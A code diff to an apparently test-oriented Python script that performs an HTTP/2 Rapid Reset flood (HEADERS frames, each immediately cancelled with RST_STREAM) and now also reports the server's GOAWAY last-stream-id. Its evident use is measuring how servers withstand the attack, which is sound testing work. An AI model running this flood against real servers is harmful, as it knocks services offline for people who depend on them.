@@ -6,7 +6,9 @@ bindings are not in Debian).
 It sends the preface and an empty SETTINGS, then COUNT times a HEADERS frame (GET PATH,
 END_STREAM) immediately followed by RST_STREAM(CANCEL) on the same new stream, in batches of
 50, reading what the server sends between batches. It stops when the server sends GOAWAY or
-closes. Prints one line: "sent=N goaway=CODE|none closed=yes|no".
+closes. Prints one line: "sent=N goaway=CODE|none last=ID|none closed=yes|no", where last is
+the last stream id the server's GOAWAY says it processed: how far the attack got on the server's
+side, which does not depend on how far ahead of the server the client's writes ran.
 """
 import select
 import socket
@@ -34,12 +36,13 @@ s.settimeout(10)
 s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
 buf = b""
 goaway = None
+last = None
 closed = False
 sent = 0
 
 
 def read_frames(block):
-    global buf, goaway, closed
+    global buf, goaway, last, closed
     while True:
         r, _, _ = select.select([s], [], [], 2.0 if block else 0)
         if not r:
@@ -63,6 +66,7 @@ def read_frames(block):
             if ftype == 4 and not flags & 1:
                 s.sendall(frame(4, 1, 0))  # ACK the server's SETTINGS
             if ftype == 7:
+                last = struct.unpack(">I", payload[0:4])[0] & 0x7FFFFFFF
                 goaway = struct.unpack(">I", payload[4:8])[0]
         if block:
             block = False
@@ -86,5 +90,6 @@ try:
         read_frames(True)
 except (BrokenPipeError, ConnectionResetError):
     closed = True
-print("sent=%d goaway=%s closed=%s" % (sent, "none" if goaway is None else goaway,
-                                        "yes" if closed else "no"))
+print("sent=%d goaway=%s last=%s closed=%s" % (sent, "none" if goaway is None else goaway,
+                                                "none" if last is None else last,
+                                                "yes" if closed else "no"))
